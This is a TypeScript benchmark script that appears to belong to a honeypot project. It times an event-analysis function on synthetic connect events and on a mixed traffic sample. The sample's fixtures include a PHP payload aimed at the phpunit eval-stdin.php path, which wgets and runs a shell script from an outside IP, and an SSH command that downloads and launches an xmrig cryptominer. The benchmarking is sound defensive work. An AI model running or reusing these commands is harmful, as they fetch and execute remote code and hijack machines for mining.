/**
 * `pnpm --filter @decnet/core bench`: analyseEvent throughput, events/s, on plain connect events
 * (the bulk of any honeypot's traffic; target ≥ 200k/s) and on a mix shaped like real traffic
 * (connects, logins, shell commands, HTTP requests with attack payloads, TLS/SSH fingerprints).
 * The baseline, measured in the same run, is JSON.stringify of the same events' fields: what
 * ingest already spends per event to store it. Prints medians of 7 rounds and the ratio.
 */
import { analyseEvent } from '../src/intel/analyse.ts'
import type { IntelEvent } from '../src/intel/types.ts'

const CONNECT_TARGET = 200_000
const ROUNDS = 7
const at = new Date('2026-12-03T12:00:00Z')
const event = (eventType: string, service: string, fields: Record<string, unknown>): IntelEvent => ({
  timestamp: at,
  decky: 'decky-01',
  service,
  eventType,
  attackerIp: '203.0.113.7',
  attackerPort: 40000,
  fields,
})

const connects = Array.from({ length: 1000 }, (_, i) =>
  event('connect', i % 2 ? 'ssh' : 'http', { local_port: 22 }),
)
const mixTemplate: [number, IntelEvent][] = [
  [30, event('connect', 'ssh', { local_port: 22 })],
  [30, event('disconnect', 'ssh', { duration_ms: 40, bytes_in: 1200 })],
  [
    15,
    event('auth_attempt', 'ssh', {
      username: 'root',
      method: 'password',
      client_version: 'SSH-2.0-libssh_0.10.6',
      password: 'x',
      success: false,
    }),
  ],
  [
    3,
    event('ssh_client_kexinit', 'ssh', {
      client_version: 'SSH-2.0-OpenSSH_9.2p1',
      hassh: 'ec7378c1a92f5a8dde7e8b7a1ddf33d1',
      hassh_algorithms:
        'curve25519-sha256,ecdh-sha2-nistp256;aes128-ctr,aes256-gcm@openssh.com;hmac-sha2-256;none',
    }),
  ],
  [
    3,
    event('tls_client_hello', 'https', {
      ja3: '771,4865-4866-4867,0-23-65281-10-11,29-23-24,0',
      ja3_hash: 'e7d705a3286e19ea42f587b344ee6865',
      ja4: 't13d1516h2_8daaf6152771_b186095e22b6',
      ja4_r: 't13d1516h2_002f,0035_0005,000a',
    }),
  ],
  [
    10,
    event('request', 'http', {
      method: 'GET',
      path: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php?x=1',
      host: '10.0.0.5',
      user_agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36',
      headers: '{"host":"10.0.0.5","user-agent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64)","accept":"*/*"}',
      body: '<?php system("cd /tmp; wget http://198.51.100.4/x.sh; sh x.sh"); ?>',
      body_bytes: 70,
      status: 404,
      tls: false,
      ja4h: 'ge11nn030000_a0b5c7f9d1e2_000000000000_000000000000',
      header_order: 'host,user-agent,accept',
    }),
  ],
  [
    5,
    event('command', 'ssh', {
      username: 'root',
      cmd: 'cd /tmp; wget http://198.51.100.4/xmrig -O .k; chmod +x .k; ./.k -o stratum+tcp://pool.example.top:3333',
      cwd: '/root',
      via: 'ssh',
    }),
  ],
  [4, event('scan', 'http', { reason: 'malformed_http', error: 'bad_request_line' })],
]
const mixed = mixTemplate.flatMap(([count, e]) => Array.from({ length: count }, () => e))

function eventsPerSecond(
  events: readonly IntelEvent[],
  work: (e: IntelEvent) => unknown,
  minMs = 300,
): number {
  let done = 0
  const started = performance.now()
  let sink = 0
  while (performance.now() - started < minMs) {
    for (const e of events) sink ^= work(e) === undefined ? 1 : 0
    done += events.length
  }
  if (sink === -1) console.log('unreachable')
  return done / ((performance.now() - started) / 1000)
}

const median = (values: number[]) =>
  [...values].sort((a, b) => a - b)[Math.floor(values.length / 2)] as number
const format = (n: number) => `${Math.round(n).toLocaleString('en-US')} events/s`

// Warm up the JIT on both paths before measuring.
eventsPerSecond(mixed, analyseEvent, 500)
eventsPerSecond(mixed, (e) => JSON.stringify(e.fields), 200)

let missed = false
for (const [label, events] of [
  ['connect events', connects],
  ['mixed traffic', mixed],
] as const) {
  const analysed: number[] = []
  const baseline: number[] = []
  for (let round = 0; round < ROUNDS; round++) {
    analysed.push(eventsPerSecond(events, analyseEvent))
    baseline.push(eventsPerSecond(events, (e) => JSON.stringify(e.fields)))
  }
  const rate = median(analysed)
  const base = median(baseline)
  const verdict = label === 'connect events' ? (rate >= CONNECT_TARGET ? 'OK' : 'MISSED') : ''
  if (verdict === 'MISSED') missed = true
  console.log(
    `analyseEvent, ${label}: ${format(rate)} (baseline JSON.stringify of fields: ${format(base)}, ratio ${(rate / base).toFixed(2)})${verdict ? ` target ≥ ${format(CONNECT_TARGET)}: ${verdict}` : ''}`,
  )
}
process.exit(missed ? 1 : 0)
